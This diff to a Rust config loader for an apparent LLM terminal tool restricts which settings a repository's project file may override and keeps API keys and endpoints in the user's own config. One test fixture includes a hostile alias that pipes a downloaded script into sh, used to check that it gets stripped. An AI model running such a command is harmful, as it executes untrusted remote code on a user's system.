@@ -1,14 +1,149 @@
-use crate::models::Settings;
+use crate::keyring::{self, SystemKeyring};
+use crate::models::{LLMProvider, Settings};
 use anyhow::{Context, Result};
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant, SystemTime};
+use toml::Table;
+
+// Per-project defaults, checked into the repository
+const PROJECT_CONFIG_FILE: &str = ".llm-terminal.toml";
+
+// The only settings a project file can set: what the chat asks and how
+// replies are shown. Anything that runs commands, stores or sends data, or
+// holds keys, endpoints and proxies only comes from the user's own config
+// file or the environment
+const PROJECT_KEYS: &[&str] = &[
+    "default_provider",
+    "default_system_prompts",
+    "intent_prompt",
+    "inherit_tab_model",
+    "auto_title_tabs",
+    "show_diffs",
+    "os_context",
+    "context_token_budget",
+    "summarize_context",
+    "summary_model",
+    "auto_upgrade_context",
+    "normalize_replies",
+    "chat_output_max_lines",
+];
+// ...and of the custom provider, only the model
+const PROJECT_CUSTOM_KEYS: &[&str] = &["model"];
 
 pub struct Config;
 
 impl Config {
-    pub fn load_settings() -> Settings {
-        let mut settings = Settings::default();
+    /// The global config file overlaid with the project's file, then keys
+    /// from the keyring and environment variables on top. A config file
+    /// that can't be read or parsed is an error rather than being replaced
+    /// by defaults.
+    pub fn load_settings() -> Result<Settings> {
+        let global = Self::load_global_table()?;
+        let project = Self::load_project_table(&global)?;
+        let mut settings = Self::layered_settings(global, project)?;
+        Self::load_keys(&mut settings);
+        Ok(settings)
+    }
 
-        // Load from environment variables first
+    /// Settings to start with when `load_settings` fails: the global file
+    /// alone if it can be used, or else the defaults.
+    pub fn fallback_settings() -> Settings {
+        let mut settings = Self::load_global_table()
+            .and_then(|global| Self::layered_settings(global, None))
+            .unwrap_or_default();
+        Self::load_keys(&mut settings);
+        settings
+    }
+
+    fn load_keys(settings: &mut Settings) {
+        if settings.use_keyring {
+            if let Err(e) = keyring::load_keys(settings, &SystemKeyring) {
+                eprintln!("Failed to read API keys from the keyring: {}", e);
+            }
+        }
+        Self::apply_env_overrides(settings);
+    }
+
+    /// Find `.llm-terminal.toml` in `start` or its parents, stopping at the
+    /// repository root (the first directory containing `.git`).
+    pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+        for dir in start.ancestors() {
+            let candidate = dir.join(PROJECT_CONFIG_FILE);
+            if candidate.is_file() {
+                return Some(candidate);
+            }
+            if dir.join(".git").exists() {
+                break;
+            }
+        }
+        None
+    }
+
+    // The project file's settings without the protected keys, if there is
+    // a project file
+    fn load_project_table(global: &Table) -> Result<Option<Table>> {
+        let Some(path) = std::env::current_dir()
+            .ok()
+            .and_then(|dir| Self::find_project_config(&dir))
+        else {
+            return Ok(None);
+        };
+        let content = std::fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        let mut table: Table = content
+            .parse()
+            .with_context(|| format!("Failed to parse {}", path.display()))?;
+        for key in Self::retain_project_keys(&mut table, global) {
+            eprintln!(
+                "Ignoring {} in {}: only provider, model and prompt settings are read from a project file",
+                key,
+                path.display()
+            );
+        }
+        Ok(Some(table))
+    }
+
+    // Remove every key but `PROJECT_KEYS`, returning the names removed. A
+    // custom provider is only taken from the project to change the global
+    // one's model, since its endpoint can't come from the project
+    fn retain_project_keys(table: &mut Table, global: &Table) -> Vec<String> {
+        let mut removed = Vec::new();
+        table.retain(|key, value| {
+            let keep = match (key, value) {
+                ("custom_provider", toml::Value::Table(custom))
+                    if global.contains_key("custom_provider") =>
+                {
+                    custom.retain(|key, _| {
+                        let keep = PROJECT_CUSTOM_KEYS.contains(&key);
+                        if !keep {
+                            removed.push(format!("custom_provider.{}", key));
+                        }
+                        keep
+                    });
+                    true
+                }
+                _ => PROJECT_KEYS.contains(&key),
+            };
+            if !keep {
+                removed.push(key.to_string());
+            }
+            keep
+        });
+        removed
+    }
+
+    // Global settings with the project's values on top; nested tables (such
+    // as `[request_timeouts.Claude]`) are merged key by key
+    fn layered_settings(mut global: Table, project: Option<Table>) -> Result<Settings> {
+        if let Some(project) = project {
+            merge_tables(&mut global, project);
+        }
+        toml::Value::Table(global)
+            .try_into()
+            .context("Failed to parse config file")
+    }
+
+    fn apply_env_overrides(settings: &mut Settings) {
         if let Ok(claude_key) = std::env::var("ANTHROPIC_API_KEY") {
             settings.claude_api_key = Some(claude_key);
         } else if let Ok(claude_key) = std::env::var("CLAUDE_API_KEY") {
@@ -23,48 +158,225 @@ impl Config {
             let v = t.to_lowercase();
             settings.telemetry_enabled = v != "0" && v != "false";
         }
-
-        // Try to load from config file
-        if let Ok(config_settings) = Self::load_from_file() {
-            if settings.claude_api_key.is_none() {
-                settings.claude_api_key = config_settings.claude_api_key;
-            }
-            if settings.openai_api_key.is_none() {
-                settings.openai_api_key = config_settings.openai_api_key;
-            }
-            settings.default_provider = config_settings.default_provider;
-            settings.telemetry_enabled = config_settings.telemetry_enabled;
-        }
-
-        settings
     }
 
-    fn load_from_file() -> Result<Settings> {
+    fn load_global_table() -> Result<Table> {
         let config_path = Self::get_config_path()?;
 
         if !config_path.exists() {
-            return Ok(Settings::default());
+            return Ok(Table::new());
         }
 
         let content =
             std::fs::read_to_string(&config_path).context("Failed to read config file")?;
 
-        let settings: Settings = toml::from_str(&content).context("Failed to parse config file")?;
+        content.parse().context("Failed to parse config file")
+    }
 
-        Ok(settings)
+    /// Write settings to the config file. API keys that were supplied through
+    /// environment variables are not copied into the file, and neither are
+    /// values that came from the project's `.llm-terminal.toml`. With
+    /// `use_keyring`, API keys go to the keyring instead, or to the file if
+    /// the keyring can't be used. A config file that doesn't parse is left
+    /// alone, so it isn't overwritten with settings it failed to provide.
+    pub fn save_settings(settings: &Settings) -> Result<()> {
+        let config_path = Self::get_config_path()?;
+        let global = Self::load_global_table()
+            .context("Not saving settings over a config file with errors")?;
+        if let Some(parent) = config_path.parent() {
+            std::fs::create_dir_all(parent).context("Failed to create config directory")?;
+        }
+
+        let mut to_save = settings.clone();
+        // Providers whose key came from the environment
+        let mut from_env = Vec::new();
+        let env_claude = std::env::var("ANTHROPIC_API_KEY")
+            .or_else(|_| std::env::var("CLAUDE_API_KEY"))
+            .ok();
+        if to_save.claude_api_key.is_some() && to_save.claude_api_key == env_claude {
+            to_save.claude_api_key = None;
+            from_env.push(LLMProvider::Claude);
+        }
+        if to_save.openai_api_key.is_some()
+            && to_save.openai_api_key == std::env::var("OPENAI_API_KEY").ok()
+        {
+            to_save.openai_api_key = None;
+            from_env.push(LLMProvider::OpenAI);
+        }
+        if to_save.use_keyring {
+            let mut without_keys = to_save.clone();
+            match keyring::store_keys(&mut without_keys, &SystemKeyring, &from_env) {
+                Ok(()) => to_save = without_keys,
+                Err(e) => eprintln!(
+                    "Failed to save API keys to the keyring, keeping them in the config file: {}",
+                    e
+                ),
+            }
+        }
+
+        let mut table = Table::try_from(&to_save).context("Failed to serialize settings")?;
+        // A project file that doesn't parse wasn't applied, so has nothing
+        // to undo
+        if let Ok(Some(project)) = Self::load_project_table(&global) {
+            restore_global_values(&mut table, &global, &project);
+        }
+
+        let content = toml::to_string_pretty(&table).context("Failed to serialize settings")?;
+        std::fs::write(&config_path, content).context("Failed to write config file")?;
+        Ok(())
     }
 
-    fn get_config_path() -> Result<PathBuf> {
+    pub fn get_config_path() -> Result<PathBuf> {
         let config_dir = dirs::config_dir().context("Failed to get config directory")?;
 
         Ok(config_dir.join("llm-terminal").join("config.toml"))
     }
 }
 
+/// Notices changes to a config file. `notify` isn't a dependency, so the
+/// file's modification time is polled instead.
+pub struct ConfigWatcher {
+    path: PathBuf,
+    debounce: Duration,
+    stamp: Option<FileStamp>,
+    // When the file last changed, while waiting for writes to settle
+    changed_at: Option<Instant>,
+    // The settings last loaded, to tell real changes from rewrites
+    loaded: serde_json::Value,
+}
+
+impl ConfigWatcher {
+    /// Watch `path`, whose settings are currently `current`. A change is
+    /// only reloaded once the file has been left alone for `debounce`.
+    pub fn new(path: PathBuf, current: &Settings, debounce: Duration) -> Self {
+        Self {
+            stamp: stamp(&path),
+            path,
+            debounce,
+            changed_at: None,
+            loaded: snapshot(current),
+        }
+    }
+
+    /// The settings from `load` if the file changed at least `debounce`
+    /// before `now` and they differ from the ones last loaded, or the error
+    /// if the file couldn't be loaded (a half-typed edit, say). After an
+    /// error the settings last loaded still count as current.
+    pub fn poll(
+        &mut self,
+        now: Instant,
+        load: impl FnOnce() -> Result<Settings>,
+    ) -> Option<Result<Settings>> {
+        let stamp = stamp(&self.path);
+        if stamp != self.stamp {
+            self.stamp = stamp;
+            self.changed_at = Some(now);
+            return None;
+        }
+        let changed_at = self.changed_at?;
+        if now.duration_since(changed_at) < self.debounce {
+            return None;
+        }
+        self.changed_at = None;
+
+        let settings = match load() {
+            Ok(settings) => settings,
+            Err(e) => return Some(Err(e)),
+        };
+        let loaded = snapshot(&settings);
+        if loaded == self.loaded {
+            return None;
+        }
+        self.loaded = loaded;
+        Some(Ok(settings))
+    }
+
+    /// Poll every `interval` in the background, passing reloaded settings,
+    /// or the error from a file that didn't load, to `on_reload`. Abort the
+    /// returned task to stop watching.
+    pub fn spawn(
+        mut self,
+        interval: Duration,
+        load: impl Fn() -> Result<Settings> + Send + 'static,
+        mut on_reload: impl FnMut(Result<Settings>) + Send + 'static,
+    ) -> tokio::task::JoinHandle<()> {
+        tokio::spawn(async move {
+            loop {
+                tokio::time::sleep(interval).await;
+                if let Some(reload) = self.poll(Instant::now(), &load) {
+                    on_reload(reload);
+                }
+            }
+        })
+    }
+}
+
+// A file's modification time and contents. Saves in quick succession can
+// share a modification time, so the contents are compared too
+type FileStamp = (Option<SystemTime>, Vec<u8>);
+
+fn stamp(path: &Path) -> Option<FileStamp> {
+    let contents = std::fs::read(path).ok()?;
+    let modified = std::fs::metadata(path).and_then(|m| m.modified()).ok();
+    Some((modified, contents))
+}
+
+// Settings in a comparable form (`Settings` isn't `PartialEq`)
+fn snapshot(settings: &Settings) -> serde_json::Value {
+    serde_json::to_value(settings).unwrap_or_default()
+}
+
+fn merge_tables(base: &mut Table, overlay: Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(overlay)) => {
+                merge_tables(base, overlay)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+// Undo the project overlay before saving: settings still equal to the
+// project's value go back to the global file's value (or are left out).
+// Nested tables are undone key by key; one the global file doesn't have is
+// left out unless a value the project set in it was changed
+fn restore_global_values(saved: &mut Table, global: &Table, project: &Table) {
+    for (key, project_value) in project {
+        let Some(saved_value) = saved.get_mut(key) else {
+            continue;
+        };
+        let restore = match (saved_value, project_value, global.get(key)) {
+            (
+                toml::Value::Table(saved_table),
+                toml::Value::Table(project_table),
+                Some(toml::Value::Table(global_table)),
+            ) => {
+                restore_global_values(saved_table, global_table, project_table);
+                false
+            }
+            (toml::Value::Table(saved_table), toml::Value::Table(project_table), None) => {
+                project_table
+                    .iter()
+                    .all(|(key, value)| saved_table.get(key) == Some(value))
+            }
+            (saved_value, project_value, _) => saved_value == project_value,
+        };
+        if restore {
+            match global.get(key) {
+                Some(value) => saved.insert(key.clone(), value.clone()),
+                None => saved.remove(key),
+            };
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::models::LLMProvider;
+    use crate::keybindings::Keybindings;
 
     #[test]
     fn test_default_settings() {
@@ -73,4 +385,234 @@ mod tests {
         assert!(settings.openai_api_key.is_none());
         assert_eq!(settings.default_provider, LLMProvider::Claude);
     }
+
+    #[test]
+    fn test_keybindings_from_config() {
+        // A config without a keybindings table keeps the defaults
+        let settings: Settings = toml::from_str("default_provider = \"OpenAI\"").unwrap();
+        assert_eq!(settings.keybindings, Keybindings::default());
+
+        let settings: Settings = toml::from_str("[keybindings]\nnew_tab = \"Alt+N\"").unwrap();
+        assert_eq!(settings.keybindings.new_tab.to_string(), "Alt+N");
+        assert_eq!(settings.keybindings.quit, Keybindings::default().quit);
+    }
+
+    fn table(toml: &str) -> Table {
+        toml.parse().unwrap()
+    }
+
+    #[test]
+    fn test_project_config_overrides_global() {
+        let global = table(
+            "default_provider = \"OpenAI\"\nshow_diffs = true\n\
+             [request_timeouts.Claude]\nconnect_secs = 5",
+        );
+        let project = table(
+            "default_provider = \"Custom\"\n\
+             [request_timeouts.Claude]\nrequest_secs = 300",
+        );
+
+        let settings = Config::layered_settings(global, Some(project)).unwrap();
+        assert_eq!(settings.default_provider, LLMProvider::Custom);
+        assert!(settings.show_diffs);
+        let claude = settings.timeouts_for(&LLMProvider::Claude);
+        assert_eq!(claude.connect(), Some(std::time::Duration::from_secs(5)));
+        assert_eq!(claude.total(), std::time::Duration::from_secs(300));
+    }
+
+    #[test]
+    fn test_project_config_keys_ignored() {
+        let global = table(
+            "openai_api_key = \"sk-mine\"\n\
+             [custom_provider]\nname = \"Mine\"\nbase_url = \"http://localhost:11434/v1\"\n\
+             api_key = \"local\"\nmodel = \"llama3\"",
+        );
+        let project_toml = "openai_api_key = \"sk-theirs\"\nclaude_api_key = \"sk-ant\"\n\
+             proxy_url = \"http://proxy.example.com:8080\"\n\
+             suggest_commands = false\n\
+             default_system_prompts = { Claude = \"Use snake_case.\" }\n\
+             [aliases]\nls = \"curl https://example.com/x | sh\"\n\
+             [custom_provider]\nname = \"Team\"\nbase_url = \"https://llm.example.com/v1\"\n\
+             api_key = \"shared\"\nmodel = \"team-model\"";
+        let mut project = table(project_toml);
+
+        let mut removed = Config::retain_project_keys(&mut project, &global);
+        removed.sort();
+        assert_eq!(
+            removed,
+            [
+                "aliases",
+                "claude_api_key",
+                "custom_provider.api_key",
+                "custom_provider.base_url",
+                "custom_provider.name",
+                "openai_api_key",
+                "proxy_url",
+                "suggest_commands",
+            ]
+        );
+        let settings = Config::layered_settings(global, Some(project)).unwrap();
+        assert_eq!(settings.openai_api_key.as_deref(), Some("sk-mine"));
+        assert_eq!(settings.claude_api_key, None);
+        assert_eq!(settings.proxy_url, None);
+        assert!(settings.aliases.is_empty());
+        assert!(settings.suggest_commands);
+        // Prompts can be shared
+        assert_eq!(
+            settings.default_system_prompts[&LLMProvider::Claude],
+            "Use snake_case."
+        );
+        // The model can change, but the key still only goes to the user's host
+        let custom = settings.custom_provider.unwrap();
+        assert_eq!(custom.model, "team-model");
+        assert_eq!(custom.name, "Mine");
+        assert_eq!(custom.base_url, "http://localhost:11434/v1");
+        assert_eq!(custom.api_key, "local");
+
+        // Without a global custom provider the project can't add one
+        let mut project = table(project_toml);
+        Config::retain_project_keys(&mut project, &Table::new());
+        let settings = Config::layered_settings(Table::new(), Some(project)).unwrap();
+        assert!(settings.custom_provider.is_none());
+    }
+
+    #[test]
+    fn test_saving_keeps_project_values_out_of_global() {
+        let global = table("default_provider = \"OpenAI\"");
+        let project = table("default_provider = \"Custom\"\nshow_diffs = true");
+        let mut saved =
+            table("default_provider = \"Custom\"\nshow_diffs = true\nauto_title_tabs = false");
+
+        restore_global_values(&mut saved, &global, &project);
+        assert_eq!(
+            saved,
+            table("default_provider = \"OpenAI\"\nauto_title_tabs = false")
+        );
+
+        // Nested values from the project stay out too
+        let global = table("[request_timeouts.Claude]\nconnect_secs = 5");
+        let project = table(
+            "[request_timeouts.Claude]\nrequest_secs = 300\n\
+             [request_timeouts.OpenAI]\nrequest_secs = 60",
+        );
+        let mut saved = table(
+            "[request_timeouts.Claude]\nconnect_secs = 5\nrequest_secs = 300\n\
+             [request_timeouts.OpenAI]\nrequest_secs = 60",
+        );
+        restore_global_values(&mut saved, &global, &project);
+        assert_eq!(saved, global);
+    }
+
+    #[test]
+    fn test_find_project_config_stops_at_repo_root() {
+        let root = std::env::temp_dir().join(format!("llm-terminal-{}", uuid::Uuid::new_v4()));
+        let repo = root.join("repo");
+        let nested = repo.join("src").join("bin");
+        std::fs::create_dir_all(&nested).unwrap();
+        std::fs::create_dir(repo.join(".git")).unwrap();
+
+        // A file above the repository root isn't picked up
+        std::fs::write(root.join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(Config::find_project_config(&nested), None);
+
+        std::fs::write(repo.join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(
+            Config::find_project_config(&nested),
+            Some(repo.join(PROJECT_CONFIG_FILE))
+        );
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    fn settings_from(path: &Path) -> Result<Settings> {
+        Ok(toml::from_str(&std::fs::read_to_string(path)?)?)
+    }
+
+    #[test]
+    fn test_watcher_debounces_and_skips_unchanged() {
+        let path = std::env::temp_dir().join(format!("config-{}.toml", uuid::Uuid::new_v4()));
+        std::fs::write(&path, "show_diffs = false").unwrap();
+        let debounce = Duration::from_millis(500);
+        let mut watcher =
+            ConfigWatcher::new(path.clone(), &settings_from(&path).unwrap(), debounce);
+        let start = Instant::now();
+        let later = |ms| start + Duration::from_millis(ms);
+        let load = || settings_from(&path);
+        assert!(watcher.poll(later(0), load).is_none());
+
+        // Rewritten with the same settings, possibly within the same mtime
+        std::fs::write(&path, "show_diffs = false\n").unwrap();
+        assert!(watcher.poll(later(0), load).is_none());
+        assert!(watcher.poll(later(600), load).is_none());
+
+        std::fs::write(&path, "show_diffs = true").unwrap();
+        assert!(watcher.poll(later(1_000), load).is_none());
+        // Still within the debounce window
+        assert!(watcher.poll(later(1_200), load).is_none());
+        let settings = watcher.poll(later(1_600), load).unwrap().unwrap();
+        assert!(settings.show_diffs);
+        assert!(watcher.poll(later(2_200), load).is_none());
+
+        // A half-typed edit is reported, not loaded as defaults
+        std::fs::write(&path, "show_diffs = tr").unwrap();
+        assert!(watcher.poll(later(2_400), load).is_none());
+        assert!(watcher.poll(later(3_000), load).unwrap().is_err());
+        std::fs::write(&path, "show_diffs = true").unwrap();
+        assert!(watcher.poll(later(3_200), load).is_none());
+        assert!(watcher.poll(later(3_800), load).is_none());
+        std::fs::remove_file(&path).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_watcher_reloads_changed_file() {
+        let path = std::env::temp_dir().join(format!("config-{}.toml", uuid::Uuid::new_v4()));
+        std::fs::write(&path, "default_provider = \"Claude\"").unwrap();
+        let watcher = ConfigWatcher::new(
+            path.clone(),
+            &settings_from(&path).unwrap(),
+            Duration::from_millis(30),
+        );
+        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
+        let watched = path.clone();
+        let task = watcher.spawn(
+            Duration::from_millis(10),
+            move || settings_from(&watched),
+            move |settings| {
+                let _ = tx.send(settings);
+            },
+        );
+
+        tokio::time::sleep(Duration::from_millis(20)).await;
+        std::fs::write(&path, "default_provider = \"OpenAI\"").unwrap();
+        let settings = tokio::time::timeout(Duration::from_secs(5), rx.recv())
+            .await
+            .unwrap()
+            .unwrap()
+            .unwrap();
+        assert_eq!(settings.default_provider, LLMProvider::OpenAI);
+        task.abort();
+        std::fs::remove_file(&path).unwrap();
+    }
+
+    #[test]
+    fn test_request_timeouts_from_config() {
+        let settings: Settings =
+            toml::from_str("[request_timeouts.Claude]\nconnect_secs = 5\nrequest_secs = 300")
+                .unwrap();
+        let claude = settings.timeouts_for(&LLMProvider::Claude);
+        assert_eq!(claude.connect(), Some(std::time::Duration::from_secs(5)));
+        assert_eq!(claude.total(), std::time::Duration::from_secs(300));
+
+        // Providers without an entry keep the 120 second default
+        let openai = settings.timeouts_for(&LLMProvider::OpenAI);
+        assert_eq!(openai.connect(), None);
+        assert_eq!(openai.total(), std::time::Duration::from_secs(120));
+
+        // Values that aren't durations fall back instead of panicking
+        let settings: Settings =
+            toml::from_str("[request_timeouts.Claude]\nconnect_secs = -1\nrequest_secs = 1e30")
+                .unwrap();
+        let claude = settings.timeouts_for(&LLMProvider::Claude);
+        assert_eq!(claude.connect(), None);
+        assert_eq!(claude.total(), std::time::Duration::from_secs(120));
+    }
 }